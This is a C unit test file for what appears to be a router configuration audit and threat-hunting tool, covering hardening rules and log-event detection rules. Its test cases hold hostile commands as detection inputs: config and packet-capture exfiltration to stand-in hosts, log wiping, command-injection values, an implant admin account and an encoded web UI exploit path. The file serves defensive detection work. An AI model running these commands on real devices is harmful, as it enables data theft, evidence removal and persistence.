    {"local_user|name=x|privilege#1|form=nopassword", "TW-HARD-LOCAL-USER-NOPASSWORD"},
    /* VTY */
    {"vty|name=vty 0 4|transport_input=telnet|transport_output=none|access_class=10",
     "TW-HARD-VTY-TELNET"},
    {"vty|name=vty 0 4|transport_input=all|transport_output=none|access_class=10",
     "TW-HARD-VTY-TELNET"},
    {"vty|name=vty 0 4|transport_input=ssh|access_class=10", "TW-HARD-VTY-TRANSPORT-OUT"},
    {"vty|name=vty 0 4|transport_input=ssh|transport_output=ssh|access_class=10",
     "TW-HARD-VTY-TRANSPORT-OUT"},
    {"vty|name=vty 0 4|transport_input=ssh|transport_output=none", "TW-HARD-VTY-NO-ACL"},
    {"vty|name=vty 0 4|transport_input=ssh|transport_output=none|access_class=10", ""},
    /* secrets */
    {"secret|owner=enable|form=password|type#7",
     "TW-HARD-ENABLE-PASSWORD TW-HARD-PASSWORD-REVERSIBLE"},
    {"secret|owner=username bob|form=password|type#0", "TW-HARD-PASSWORD-REVERSIBLE"},
    {"secret|owner=username bob|form=secret|type#5", "TW-HARD-PASSWORD-WEAK-HASH"},
    {"secret|owner=enable|form=secret|type#4", "TW-HARD-PASSWORD-WEAK-HASH"},
    {"secret|owner=enable|form=secret|type#9", ""},
    {"secret|owner=tacacs T1|form=key|type#7", "TW-HARD-KEY-TYPE"},
    {"secret|owner=tacacs T1|form=key|type#6", ""},
    /* SNMP */
    {"snmp_community|community!|access=rw",
     "TW-AA-SNMP-RW TW-HARD-SNMP-COMMUNITY TW-HARD-SNMP-NO-ACL"},
    {"snmp_community|community!|access=ro", "TW-HARD-SNMP-COMMUNITY TW-HARD-SNMP-NO-ACL"},
    {"snmp_community|community!|access=ro|acl=10", "TW-HARD-SNMP-COMMUNITY"},
    /* capture */
    {"capture|name=CAP|interface=GigabitEthernet1", "TW-AA-CAPTURE"},
    {"capture|name=CAP|match=ipv4 protocol tcp any any eq 49", "TW-AA-CAPTURE-TACACS"},
    {"capture|name=CAP|match=ipv4 protocol tcp any eq tacacs any", "TW-AA-CAPTURE-TACACS"},
    {"capture|name=CAP|match=ipv4 protocol tcp any any eq 4900", ""},
    /* scripts */
    {"script|type=eem|name=CLR|action=clear logging", "TW-AA-SCRIPT-LOGGING"},
    {"script|type=eem|name=CLR|action=no logging host 10.0.0.1", "TW-AA-SCRIPT-LOGGING"},
    {"script|type=kron|name=K|action=copy bootflash:tac.pcap ftp://198.51.100.7/t.pcap",
     "TW-AA-SCRIPT-EXFIL"},
    {"script|type=eem|name=X|action=monitor capture CAP export tftp://198.51.100.7/c",
     "TW-AA-SCRIPT-EXFIL"},
    {"script|type=eem|name=S|action=show version", ""},
    /* Junos event policies */
    {"script|type=event-policy|name=HIDE|action=clear log messages", "TW-AA-SCRIPT-LOGGING"},
    {"script|type=event-policy|name=HIDE|action=delete system syslog host 10.0.0.1",
     "TW-AA-SCRIPT-LOGGING"},
    {"script|type=event-policy|name=P|action=upload filename /var/tmp/c.pcap destination D",
     "TW-AA-SCRIPT-EXFIL"},
    {"script|type=event-policy|name=P|action=show log messages", ""},
    {"script|type=op-script|name=x.slax|source=http://203.0.113.50/x.slax", ""},
    /* users, tunnels, mirrors */
    {"local_user|name=cisco_tac_admin|privilege#15", "TW-AA-IMPLANT-USER"},
    {"local_user|name=netops|privilege#15", ""},
    {"tunnel|name=Tunnel10|destination@8.8.8.8", "TW-AA-TUNNEL-PUBLIC TW-HARD-TUNNEL-UNPROTECTED"},
    {"tunnel|name=Tunnel10|destination@8.8.8.8|protection=P1", "TW-AA-TUNNEL-PUBLIC"},
    {"tunnel|name=Tunnel10|destination@10.1.1.1", ""},
    {"tunnel|name=Tunnel10|destination@" IOC,
     "TW-AA-IOC-TUNNEL TW-AA-TUNNEL-PUBLIC TW-HARD-TUNNEL-UNPROTECTED"},
    {"mirror_session|id#1|type=erspan|destination@" IOC, "TW-AA-IOC-MIRROR TW-AA-MIRROR-PUBLIC"},
    {"mirror_session|id#1|type=erspan|destination@192.168.1.1", ""},
    /* the full hardening pack */
    {"service|name=lldp|enabled?true", "TW-HARD-LLDP"},
    {"service|name=ftp|enabled?true", "TW-HARD-FTP-SERVER"},
    {"service|name=identd|enabled?true", "TW-HARD-IDENTD"},
    {"service|name=config-load|enabled?true", "TW-HARD-CONFIG-LOAD"},
    {"service|name=netconf|enabled?true", "TW-HARD-MGMT-API"},
    {"service|name=nxapi|enabled?false", ""},
    {"service|name=ssh|cipher=aes256-gcm|cipher=3des-cbc", "TW-HARD-SSH-WEAK-CIPHER"},
    {"service|name=ssh|cipher=aes256-gcm|cipher=aes256-ctr", ""},
    {"service|name=ssh|cipher=weak", "TW-HARD-SSH-WEAK-CIPHER"},
    {"service|name=ssh|mac=hmac-sha1", "TW-HARD-SSH-WEAK-MAC"},
    {"service|name=ssh|mac=hmac-sha2-256|mac=hmac-sha2-512", ""},
    {"service|name=ssh|kex=diffie-hellman-group14-sha1", "TW-HARD-SSH-WEAK-KEX"},
    {"service|name=ssh|kex=diffie-hellman-group1-sha1", "TW-HARD-SSH-WEAK-KEX"},
    {"service|name=ssh|kex=diffie-hellman-group14-sha256|kex=ecdh-sha2-nistp384", ""},
    {"service|name=ssh|dh_min#2048", "TW-HARD-SSH-DH-MIN"},
    {"service|name=ssh|dh_min#4096", ""},
    {"vty|name=vty 0 4|transport_input=ssh|transport_output=none|access_class=10|exec_timeout#0",
     "TW-HARD-VTY-EXEC-TIMEOUT"},
    {"vty|name=vty 0 4|transport_input=ssh|transport_output=none|access_class=10|exec_timeout#3600",
     "TW-HARD-VTY-EXEC-TIMEOUT"},
    {"vty|name=vty 0 4|transport_input=ssh|transport_output=none|access_class=10|exec_timeout#600",
     ""},
    {"logging_host|address@10.0.0.5", "TW-HARD-LOGGING-UNENCRYPTED"},
    {"logging_host|address@10.0.0.5|transport=udp", "TW-HARD-LOGGING-UNENCRYPTED"},
    {"logging_host|address@10.0.0.5|transport=tls", ""},
    {"logging|setting=trap|severity#4", "TW-HARD-LOGGING-TRAP-LEVEL"},
    {"logging|setting=trap|severity#5", ""},
    {"logging|setting=buffered|severity#3", ""},
    {"aaa_server|protocol=radius|address@10.0.0.9|key_type#7", ""},
    {"ntp_server|address@10.0.0.1", "TW-HARD-NTP-NO-AUTH"},
    {"snmp_user|name=mon|version=v3", "TW-HARD-SNMPV3-NO-AUTH TW-HARD-SNMPV3-NO-PRIV"},
    {"snmp_user|name=mon|version=v3|auth=md5|priv=aes128", "TW-HARD-SNMPV3-WEAK-CRYPTO"},
    {"snmp_user|name=mon|version=v3|auth=sha|priv=des", "TW-HARD-SNMPV3-WEAK-CRYPTO"},
    {"snmp_user|name=mon|version=v3|auth=sha256|priv=aes256", ""},
    {"snmp_community|community!|access=ro|acl=10|strength=weak",
     "TW-HARD-SNMP-COMMUNITY TW-HARD-SNMP-COMMUNITY-WEAK"},
    {"snmp_community|community!|access=ro|acl=10|strength=ok", "TW-HARD-SNMP-COMMUNITY"},
    {"interface|name=Gi1|address@10.0.0.1|redirects?true|proxy_arp?false|directed_broadcast?false|"
     "shutdown?false",
     "TW-HARD-IP-REDIRECTS"},
    {"interface|name=Gi1|address@10.0.0.1|redirects?false|proxy_arp?true|directed_broadcast?true|"
     "shutdown?false",
     "TW-HARD-DIRECTED-BROADCAST TW-HARD-PROXY-ARP"},
    /* one finding per device for settings every interface has */
    {"interface|name=Gi1|redirects?true|shutdown?false;interface|name=Gi2|redirects?true|"
     "shutdown?false;interface|name=Gi3|redirects?true|shutdown?false",
     "TW-HARD-IP-REDIRECTS"},
    {"interface|name=Gi1|redirects?true|proxy_arp?true|directed_broadcast?false|shutdown?true", ""},
    {"interface|name=Gi1|redirects?false|proxy_arp?false|directed_broadcast?false|shutdown?false",
     ""},
    {"crypto_proposal|protocol=ike|name=10|encryption=3des|integrity=md5|group#2",
     "TW-HARD-IKE-WEAK-CIPHER TW-HARD-IKE-WEAK-DH TW-HARD-IKE-WEAK-HASH"},
    {"crypto_proposal|protocol=ike|name=P|encryption=aes256-gcm|integrity=sha384|group#20", ""},
    {"crypto_proposal|protocol=ipsec|name=TS|encryption=aes128", "TW-HARD-IKE-WEAK-CIPHER"},
    {"routing_peer|protocol=bgp|address@192.0.2.1|auth?false", "TW-HARD-BGP-NO-AUTH"},
    {"routing_peer|protocol=bgp|address@192.0.2.1|auth?true", ""},
    /* indicators; the catch-all gives way to the specific rule on the same line */
    {"acl_entry|list=20|action=permit|src@" IOC ";address|value@" IOC "|statement=access-list",
     "TW-AA-IOC-ACL"},
    {"acl_entry|list=101|action=permit|src@10.0.0.0/8|dst@" IOC, "TW-AA-IOC-ACL"},
    {"aaa_server|protocol=tacacs|address@" IOC, "TW-AA-IOC-AAA TW-HARD-AAA-SERVER-NO-KEY"},
    {"aaa_server|protocol=tacacs|address@" IOC "|key_type#6", "TW-AA-IOC-AAA"},
    {"logging_host|address@" IOC "|transport=tls", "TW-AA-IOC-LOGGING"},
    {"ntp_server|address@" IOC "|key#1", "TW-AA-IOC-NTP"},
    {"snmp_host|address@" IOC, "TW-AA-IOC-SNMP"},
    {"route|prefix@0.0.0.0/0|next_hop@" IOC, "TW-AA-IOC-ROUTE"},
    {"address|value@" IOC "|statement=ip domain lookup source", "TW-AA-IOC-CONFIG"},
    {"address|value@8.8.8.8|statement=ip name-server", ""},
};

/* Applies the packs to the facts of spec; writes the fired ids (absent
 * rules left out) and counts messages with an unfilled placeholder. */
static void fire(fixture *fx, const char *spec, char *got, size_t cap, size_t *unfilled)
{
    tw_rule_env env = {fx->iocs, NULL};
    tw_factset fs;
    tw_findings out;
    char buf[512];
    char *save = NULL;
    size_t len = 0;

    tw_arena_reset(fx->arena);
    tw_factset_init(&fs, fx->arena);
    fs.dialect = TW_DIALECT_IOSXE;
    snprintf(buf, sizeof(buf), "%s", spec);
    for (char *f = strtok_r(buf, ";", &save); f != NULL; f = strtok_r(NULL, ";", &save))
        add_fact(&fs, f);
    tw_findings_init(&out, fx->arena);
    assert_int_equal(tw_rules_apply(fx->rs, &env, "x.cfg", &fs, &out), TW_OK);
    got[0] = '\0';
    *unfilled = 0;
    for (size_t i = 0; i < out.n; i++) {
        const tw_rule *r = tw_ruleset_find(fx->rs, out.v[i].rule);
        if (!r->absent)
            len += (size_t)snprintf(got + len, cap - len, "%s%s", len ? " " : "", r->id);
        *unfilled += strchr(out.v[i].message, '{') != NULL;
        *unfilled += out.v[i].remediation == NULL;
    }
    tw_findings_release(&out);
    tw_factset_release(&fs);
}

static void test_fire(void **state)
{
    fixture *fx = *state;

    for (size_t i = 0; i < sizeof(fire_cases) / sizeof(fire_cases[0]); i++) {
        char got[512], want[512], ids[256];
        size_t unfilled;
        fire(fx, fire_cases[i].facts, ids, sizeof(ids), &unfilled);
        snprintf(got, sizeof(got), "%s -> [%s] unfilled %zu", fire_cases[i].facts, ids, unfilled);
        snprintf(want, sizeof(want), "%s -> [%s] unfilled 0", fire_cases[i].facts,
                 fire_cases[i].want);
        assert_string_equal(got, want);
    }
}

#define SVC                                                                                        \
    "TW-HARD-BANNER-MISSING TW-HARD-CONFIG-CHANGE-LOG TW-HARD-LOGIN-BLOCK "                        \
    "TW-HARD-LOGIN-FAILURE-LOG TW-HARD-NTP-AUTH-NOT-ENFORCED TW-HARD-PASSWORD-MIN-LENGTH "         \
    "TW-HARD-TCP-KEEPALIVES"

static const struct {
    const char *facts;
    const char *absent; /* absent rules that fire */
} absent_cases[] = {
    /* absent rules come grouped by the fact kind they look for */
    {"hostname|name=R1",
     "TW-HARD-NO-AAA-ACCOUNTING TW-HARD-NO-AAA-AUTHENTICATION TW-HARD-NO-AAA-AUTHORIZATION " SVC
     " TW-HARD-NO-LOGGING-HOST TW-HARD-NO-NTP"},
    {"logging_host|address@10.0.0.5",
     "TW-HARD-NO-AAA-ACCOUNTING TW-HARD-NO-AAA-AUTHENTICATION TW-HARD-NO-AAA-AUTHORIZATION " SVC
     " TW-HARD-NO-NTP"},
    {"aaa_method|type=accounting|service=exec|record=start-stop",
     "TW-HARD-NO-AAA-ACCOUNTING TW-HARD-NO-AAA-AUTHENTICATION TW-HARD-NO-AAA-AUTHORIZATION " SVC
     " TW-HARD-NO-LOGGING-HOST TW-HARD-NO-NTP"},
    /* a hardened device: every setting the absent rules look for */
    {"aaa_method|type=accounting|service=commands|level#15;"
     "aaa_method|type=authentication|service=login|method=group tacacs+;"
     "aaa_method|type=authorization|service=commands;service|name=banner|enabled?true;"
     "service|name=config-log|enabled?true;service|name=login-block|enabled?true;"
     "service|name=login-failure-log|enabled?true;service|name=ntp-authenticate|enabled?true;"
     "service|name=password-policy|min_length#15;service|name=tcp-keepalives-in|enabled?true;"
     "logging_host|address@10.0.0.5;ntp_server|address@10.0.0.1|key#1",
     ""},
    /* local-only logins and a short minimum length do not count */
    {"aaa_method|type=accounting|service=commands|level#15;"
     "aaa_method|type=authentication|service=login|method=local;"
     "aaa_method|type=authorization|service=commands;service|name=banner|enabled?true;"
     "service|name=config-log|enabled?true;service|name=login-block|enabled?true;"
     "service|name=login-failure-log|enabled?true;service|name=ntp-authenticate|enabled?true;"
     "service|name=password-policy|min_length#6;service|name=tcp-keepalives-in|enabled?true;"
     "logging_host|address@10.0.0.5;ntp_server|address@10.0.0.1|key#1",
     "TW-HARD-NO-AAA-AUTHENTICATION TW-HARD-PASSWORD-MIN-LENGTH"},
};

/* The absent rules fired for spec, in id order. */
static void fire_absent(fixture *fx, const char *spec, char *got, size_t cap)
{
    tw_rule_env env = {fx->iocs, NULL};
    tw_factset fs;
    tw_findings out;
    char buf[1024];
    char *save = NULL;
    size_t len = 0;

    tw_arena_reset(fx->arena);
    tw_factset_init(&fs, fx->arena);
    fs.dialect = TW_DIALECT_IOS;
    snprintf(buf, sizeof(buf), "%s", spec);
    for (char *f = strtok_r(buf, ";", &save); f != NULL; f = strtok_r(NULL, ";", &save))
        add_fact(&fs, f);
    tw_findings_init(&out, fx->arena);
    assert_int_equal(tw_rules_apply(fx->rs, &env, NULL, &fs, &out), TW_OK);
    got[0] = '\0';
    for (size_t i = 0; i < out.n; i++) {
        if (out.v[i].line == 0)
            len += (size_t)snprintf(got + len, cap - len, "%s%s", len ? " " : "", out.v[i].rule);
    }
    tw_findings_release(&out);
    tw_factset_release(&fs);
}

static void test_absent(void **state)
{
    fixture *fx = *state;

    for (size_t i = 0; i < sizeof(absent_cases) / sizeof(absent_cases[0]); i++) {
        char got[2600], want[2600], ids[1024];
        fire_absent(fx, absent_cases[i].facts, ids, sizeof(ids));
        snprintf(got, sizeof(got), "%s -> [%s]", absent_cases[i].facts, ids);
        snprintf(want, sizeof(want), "%s -> [%s]", absent_cases[i].facts, absent_cases[i].absent);
        assert_string_equal(got, want);
    }
}

/* The remediation of an IOS XE device uses the "ios" text with the
 * placeholders filled. */
static void test_remediation_text(void **state)
{
    fixture *fx = *state;
    tw_rule_env env = {fx->iocs, NULL};
    tw_factset fs;
    tw_findings out;

    tw_arena_reset(fx->arena);
    tw_factset_init(&fs, fx->arena);
    fs.dialect = TW_DIALECT_IOSXE;
    add_fact(&fs, "tunnel|name=Tunnel10|destination@" IOC);
    tw_findings_init(&out, fx->arena);
    assert_int_equal(tw_rules_apply(fx->rs, &env, NULL, &fs, &out), TW_OK);
    assert_string_equal(out.v[0].rule, "TW-AA-IOC-TUNNEL");
    assert_string_equal(out.v[0].remediation, "no interface Tunnel10");
    assert_string_equal(out.v[0].ioc, IOC);
    assert_int_equal(out.v[0].line, 7);
    tw_findings_release(&out);
    tw_factset_release(&fs);
}

/* ---- hunt rules over log events ---------------------------------------------- */

/* One log event; NULL fields are left out.  benign: nothing at medium or
 * above may fire. */
typedef struct {
    const char *command, *msgid, *message, *user, *program, *src, *dst;
    int dst_port;
    bool benign;
    const char *want; /* rule ids fired, in id order */
} ev_case;

static const ev_case ev_cases[] = {
    /* captures and exfiltration */
    {.command = "monitor capture CAP interface GigabitEthernet1 both", .want = "TW-HUNT-CAPTURE"},
    {.command = "monitor capture CAP match ipv4 protocol tcp any any eq 49",
     .want = "TW-HUNT-CAPTURE-TACACS"},
    {.command = "monitor capture CAP export bootflash:tac.pcap",
     .want = "TW-HUNT-CAPTURE TW-HUNT-CAPTURE-FILE"},
    {.command = "ethanalyzer local interface mgmt capture-filter \"tcp port 49\" write "
                "bootflash:1.pcap",
     .want = "TW-HUNT-CAPTURE-FILE TW-HUNT-CAPTURE-TACACS"},
    {.command = "copy bootflash:tac.pcap ftp://198.51.100.7/tac.pcap",
     .want = "TW-HUNT-CAPTURE-FILE TW-HUNT-EXFIL-COPY TW-HUNT-STAGE-DATA"},
    {.command = "copy running-config tftp://198.51.100.7/r1.cfg",
     .want = "TW-HUNT-EXFIL-COPY TW-HUNT-STAGE-DATA"},
    {.command = "show running-config | redirect scp://u@198.51.100.7/r.cfg",
     .want = "TW-HUNT-EXFIL-COPY TW-HUNT-SHOW-CONFIG"},
    {.command = "monitor session 1 type erspan-source", .want = "TW-HUNT-MIRROR"},
    /* containers */
    {.command = "guestshell enable", .want = "TW-HUNT-GUESTSHELL"},
    {.command = "guestshell run bash", .want = "TW-HUNT-GUESTSHELL"},
    {.command = "guestshell destroy", .want = "TW-HUNT-GUESTSHELL"},
    {.command = "run guestshell", .want = "TW-HUNT-GUESTSHELL"},
    {.command = "guestshell run chvrf management curl http://198.51.100.7/x",
     .want = "TW-HUNT-CHVRF-DOHOST TW-HUNT-GUESTSHELL"},
    {.command = "dohost \"show running-config\"", .want = "TW-HUNT-CHVRF-DOHOST"},
    {.msgid = "VIRT_SERVICE-5-ACTIVATION_STATE",
     .message = "Successfully activated virtual service 'guestshell'",
     .want = "TW-HUNT-GUESTSHELL-LOG"},
    {.msgid = "VIRT_SERVICE-5-ACTIVATION_STATE",
     .message = "Destroying virtual service 'guestshell'",
     .want = "TW-HUNT-GUESTSHELL-LOG"},
    /* evidence removal */
    {.command = "clear logging", .want = "TW-HUNT-CLEAR-LOGS"},
    {.command = "do clear logging", .want = "TW-HUNT-CLEAR-LOGS"},
    {.command = "no logging host 10.1.1.5", .want = "TW-HUNT-LOGGING-OFF"},
    {.command = "no logging", .want = "TW-HUNT-LOGGING-OFF"},
    {.command = "configure terminal ; no logging server 10.1.1.5", .want = "TW-HUNT-LOGGING-OFF"},
    {.command = "delete system syslog host 10.1.1.5", .want = "TW-HUNT-LOGGING-OFF"},
    {.command = "no aaa new-model", .want = "TW-HUNT-AAA-DISABLED"},
    {.msgid = "SYS-6-LOGGINGHOST_STARTSTOP",
     .message = "Logging to host 10.1.1.5 port 514 stopped - CLI initiated",
     .want = "TW-HUNT-LOGHOST-STOPPED"},
    {.msgid = "SYS-6-LOGGINGHOST_STARTSTOP",
     .message = "Logging to host 10.1.1.5 port 514 started - CLI initiated",
     .benign = true,
     .want = ""},
    {.command = "history -c", .want = "TW-HUNT-LINUX-LOG-WIPE"},
    {.command = "rm -f /root/.bash_history", .want = "TW-HUNT-LINUX-LOG-WIPE"},
    /* web UI */
    {.msgid = "SYS-5-CONFIG_P",
     .message = "Configured programmatically by process SEP_webui_wsma_http from console as "
                "user on line",
     .want = "TW-HUNT-WEBUI-CONFIG"},
    {.msgid = "SEC_LOGIN-5-WEBLOGIN_SUCCESS",
     .message = "Login Success [user: admin] [Source: 10.1.1.1] [localport: 21111] at 10:00:00",
     .user = "admin",
     .want = "TW-HUNT-WEBUI-LOCALPORT"},
    {.msgid = "SEC_LOGIN-5-WEBLOGIN_SUCCESS",
     .message = "Login Success [user: cisco_tac_admin] [Source: 10.1.1.1] [localport: 443]",
     .user = "cisco_tac_admin",
     .want = "TW-HUNT-IMPLANT-USER"},
    {.program = "nginx",
     .message = "POST /%2577eb%2575i_%2577sma_Http HTTP/1.1",
     .want = "TW-HUNT-WEBUI-EXPLOIT"},
    {.command = "request platform software package describe file bootflash:x.pkg "
                "--filename=$(id)",
     .want = "TW-HUNT-CMD-INJECTION"},
    {.command = "request platform software package describe file `id`",
     .want = "TW-HUNT-CMD-INJECTION"},
    /* accounts */
    {.command = "username cisco_tac_admin privilege 15 secret 0 <redacted>",
     .want = "TW-HUNT-IMPLANT-USER"},
    {.command = "username bob privilege 15 secret 9 <redacted>", .want = "TW-HUNT-PRIV15-USER"},
    {.command = "set system login user evil class super-user authentication "
                "encrypted-password <redacted>",
     .want = "TW-HUNT-PRIV15-USER"},
    {.command = "username bob secret 9 <redacted>", .want = "TW-HUNT-LOCAL-USER"},
    /* listeners */
    {.command = "ip ssh port 22022 rotary 1", .want = "TW-HUNT-SERVICE-PORT"},
    {.command = "ip http secure-port 18443", .want = "TW-HUNT-SERVICE-PORT"},
    {.command = "ip ssh port 22 rotary 1", .benign = true, .want = ""},
    {.command = "ip http server", .want = "TW-HUNT-HTTP-SERVER"},
    {.command = "service sshd_operns start", .want = "TW-HUNT-SSHD-OPERNS"},
    {.command = "chkconfig --add sshd_operns", .want = "TW-HUNT-LINUX-PERSIST TW-HUNT-SSHD-OPERNS"},
    {.program = "sshd",
     .message = "Server listening on 0.0.0.0 port 57722.",
     .want = "TW-HUNT-PORT-57722"},
    {.program = "sshd",
     .message = "Accepted password for admin from 10.1.1.1 port 57722 ssh2",
     .user = "admin",
     .src = "10.1.1.1",
     .benign = true,
     .want = ""},
    {.msgid = "INFRA-INFRA_MSG-5-RUN_LOGIN",
     .message = "User admin logged into shell from con0/RP0/CPU0",
     .want = "TW-HUNT-XR-SHELL"},
    {.command = "useradd cisco", .want = "TW-HUNT-LINUX-PERSIST"},
    /* tunnels, AAA, tools, SNMP */
    {.command = "interface Tunnel10", .want = "TW-HUNT-TUNNEL-CREATE"},
    {.command = "tunnel destination 203.0.113.9", .want = "TW-HUNT-TUNNEL-DEST"},
    {.command = "tacacs server EVIL", .want = "TW-HUNT-AAA-SERVER"},
    {.command = "tacacs-server host 198.51.100.7 key 7 <redacted>", .want = "TW-HUNT-AAA-SERVER"},
    {.command = "aaa group server tacacs+ EVIL", .want = "TW-HUNT-AAA-SERVER"},
    {.command = "radius server R1", .want = "TW-HUNT-AAA-SERVER"},
    {.command = "aaa authentication login default local", .want = "TW-HUNT-AAA-METHOD"},
    {.command = "tclsh bootflash:map.tcl", .want = "TW-HUNT-TCL-TOOL TW-HUNT-TCLSH"},
    {.command = "tclsh", .want = "TW-HUNT-TCLSH"},
    {.command = "event manager applet CLR", .want = "TW-HUNT-EEM-APPLET"},
    {.command = "action 1.0 cli command \"clear logging\"", .want = "TW-HUNT-EEM-CLI"},
    {.command = "snmp-server community <redacted> RW 99", .want = "TW-HUNT-SNMP-RW"},
    {.command = "snmp-server community <redacted> RO 99", .benign = true, .want = ""},
    {.command = "config-register 0x2142", .want = "TW-HUNT-CONFIG-REGISTER"},
    {.command = "no access-class 10 in", .want = "TW-HUNT-VTY-ACL-REMOVED"},
    {.command = "crypto pki export TP pem terminal", .want = "TW-HUNT-CRYPTO-EXPORT"},
    /* indicators */
    {.program = "sshd",
     .message = "Accepted password for admin from " IOC " port 51234 ssh2",
     .user = "admin",
     .src = IOC,
     .want = "TW-HUNT-IOC-SRC"},
    {.program = "asa",
     .message = "Built outbound TCP connection to " IOC "/443",
     .dst = IOC,
     .src = "10.0.0.5",
     .want = "TW-HUNT-IOC-DST"},
    /* benign: nothing at medium or above */
    {.command = "show running-config", .benign = true, .want = "TW-HUNT-SHOW-CONFIG"},
    {.command = "show ip route", .benign = true, .want = "TW-HUNT-DISCOVERY"},
    {.command = "show interfaces", .benign = true, .want = "TW-HUNT-DISCOVERY"},
    {.command = "terminal length 0", .benign = true, .want = "TW-HUNT-DISCOVERY"},
    {.command = "dir bootflash:", .benign = true, .want = "TW-HUNT-DISCOVERY"},
    {.command = "show logging", .benign = true, .want = "TW-HUNT-SHOW-LOGS"},
    {.command = "more bootflash:notes.txt", .benign = true, .want = "TW-HUNT-SHOW-CONFIG"},
    {.command = "copy running-config startup-config", .benign = true, .want = "TW-HUNT-STAGE-DATA"},
    {.command = "shutdown", .benign = true, .want = "TW-HUNT-SHUTDOWN"},
    {.command = "access-list 20 permit 10.9.9.9", .benign = true, .want = "TW-HUNT-CONFIG-CHANGE"},
    {.command = "interface GigabitEthernet1", .benign = true, .want = ""},
    {.command = "description uplink to core", .benign = true, .want = ""},
    {.command = "ip address 10.0.0.1 255.255.255.0", .benign = true, .want = ""},
    {.command = "no shutdown", .benign = true, .want = ""},
    {.command = "router bgp 65000", .benign = true, .want = ""},
    {.command = "neighbor 10.0.0.2 remote-as 65001", .benign = true, .want = ""},
    {.command = "ip route 0.0.0.0 0.0.0.0 10.0.0.254", .benign = true, .want = ""},
    {.command = "write memory", .benign = true, .want = ""},
    {.command = "configure terminal", .benign = true, .want = ""},
    {.command = "end", .benign = true, .want = ""},
    {.command = "ping 10.0.0.2", .benign = true, .want = ""},
    {.command = "logging host 10.1.1.5", .benign = true, .want = ""},
    {.command = "no ip http server", .benign = true, .want = ""},
    {.command = "no logging console", .benign = true, .want = ""},
    {.program = "squid",
     .message = "GET http://notevil.example/tac.pcap.txt - HIER_DIRECT",
     .benign = true,
     .want = ""},
    {.program = "scp",
     .message = "sent bootflash:mycap.pcap to 10.0.0.5",
     .want = "TW-HUNT-CAPTURE-FILE"},
    {.msgid = "LINEPROTO-5-UPDOWN",
     .message = "Line protocol on Interface Tunnel10, changed state to up",
     .benign = true,
     .want = ""},
    {.msgid = "SYS-5-CONFIG_I",
     .message = "Configured from console by admin on vty0 (10.0.0.5)",
     .user = "admin",
     .benign = true,
     .want = ""},
    {.program = "sshd",
     .message = "Accepted publickey for netops from 10.0.0.5 port 40022 ssh2",
     .user = "netops",
     .src = "10.0.0.5",
     .benign = true,
     .want = ""},
};

/* Field names are static strings (fact.h). */
static void ev_str(tw_factset *fs, const char *name, const char *v)
{
    if (v != NULL)
        tw_factset_str(fs, name, tw_str_c(v));
}

static void ev_addr(tw_factset *fs, const char *name, const char *v)
{
    tw_cidr c;

    if (v != NULL && tw_cidr_parse(tw_str_c(v), 0, &c) == TW_OK)
        tw_factset_addr(fs, name, &c);
}

/* The raw line of an event: every text it carries, as a log line would. */
static void ev_line(const ev_case *c, char *buf, size_t cap)
{
    char port[32] = "";

    if (c->dst_port > 0)
        snprintf(port, sizeof(port), " dport %d", c->dst_port);
    snprintf(buf, cap, "router1 %s: %%%s: User:%s logged command:%s %s%s",
             c->program ? c->program : "ios", c->msgid ? c->msgid : "-", c->user ? c->user : "-",
             c->command ? c->command : "", c->message ? c->message : "", port);
}

/* Adds the event of c at line 7 (format tacacs for commands, else cisco). */
static void ev_add(tw_factset *fs, const ev_case *c, const char *line)
{
    tw_factset_begin(fs, TW_FACT_EVENT, 7, tw_str_c(line), TW_STR_NULL);
    ev_str(fs, "format", c->command != NULL ? "tacacs" : "cisco");
    ev_str(fs, "host", "router1");
    ev_str(fs, "program", c->program);
    ev_str(fs, "msgid", c->msgid);
    ev_str(fs, "message", c->message);
    ev_str(fs, "user", c->user);
    ev_str(fs, "command", c->command);
    ev_addr(fs, "src", c->src);
    ev_addr(fs, "dst", c->dst);
    if (c->dst_port > 0)
        tw_factset_num(fs, "dst_port", c->dst_port);
    assert_int_equal(tw_factset_end(fs), TW_OK);
}

/* True when one of the rule's prefilter patterns occurs in line (literals
 * ignoring case, regexes as PCRE2, which accepts Vectorscan's subset). */
static bool prefilter_hit(const tw_rule *r, const char *line)
{
    bool hit = r->nmatch == 0;

    for (size_t i = 0; i < r->nmatch && !hit; i++) {
        int err;
        PCRE2_SIZE off;
        uint32_t opts = r->match[i].regex ? 0 : PCRE2_LITERAL | PCRE2_CASELESS;
        pcre2_code *re = pcre2_compile((PCRE2_SPTR)r->match[i].text, PCRE2_ZERO_TERMINATED, opts,
                                       &err, &off, NULL);
        pcre2_match_data *md = pcre2_match_data_create(1, NULL);
        hit = re != NULL && md != NULL &&
              pcre2_match(re, (PCRE2_SPTR)line, strlen(line), 0, 0, md, NULL) >= 0;
        pcre2_match_data_free(md);
        pcre2_code_free(re);
    }
    return hit;
}

/* Applies every pack to the event of c: the fired ids, how many are at
 * medium or above, and how many fired without a prefilter hit. */
static void ev_fire(fixture *fx, const ev_case *c, char *got, size_t cap, size_t *serious,
                    size_t *unfiltered)
{
    tw_rule_env env = {fx->iocs, NULL};
    tw_factset fs;
    tw_findings out;
    char line[512];
    size_t len = 0;

    tw_arena_reset(fx->arena);
    tw_factset_init(&fs, fx->arena);
    ev_line(c, line, sizeof(line));
    ev_add(&fs, c, line);
    tw_findings_init(&out, fx->arena);
    assert_int_equal(tw_rules_apply(fx->rs, &env, "log", &fs, &out), TW_OK);
    got[0] = '\0';
    *serious = 0;
    *unfiltered = 0;
    for (size_t i = 0; i < out.n; i++) {
        len += (size_t)snprintf(got + len, cap - len, "%s%s", len ? " " : "", out.v[i].rule);
        *serious += out.v[i].severity >= TW_SEV_MEDIUM;
        *unfiltered += !prefilter_hit(tw_ruleset_find(fx->rs, out.v[i].rule), line);
        assert_string_equal(out.v[i].device, "router1");
        assert_int_equal(out.v[i].line, 7);
    }
    tw_findings_release(&out);
    tw_factset_release(&fs);
}

static void test_hunt_events(void **state)
{
    fixture *fx = *state;

    for (size_t i = 0; i < sizeof(ev_cases) / sizeof(ev_cases[0]); i++) {
        const ev_case *c = &ev_cases[i];
        char got[768], want[768], ids[512];
        size_t serious, unfiltered;
        ev_fire(fx, c, ids, sizeof(ids), &serious, &unfiltered);
        snprintf(got, sizeof(got), "%s%s -> [%s] benign-ok %d prefilter-misses %zu",
                 c->command ? c->command : "", c->message ? c->message : "", ids,
                 !c->benign || serious == 0, unfiltered);
        snprintf(want, sizeof(want), "%s%s -> [%s] benign-ok 1 prefilter-misses 0",
                 c->command ? c->command : "", c->message ? c->message : "", c->want);
        assert_string_equal(got, want);
    }
}

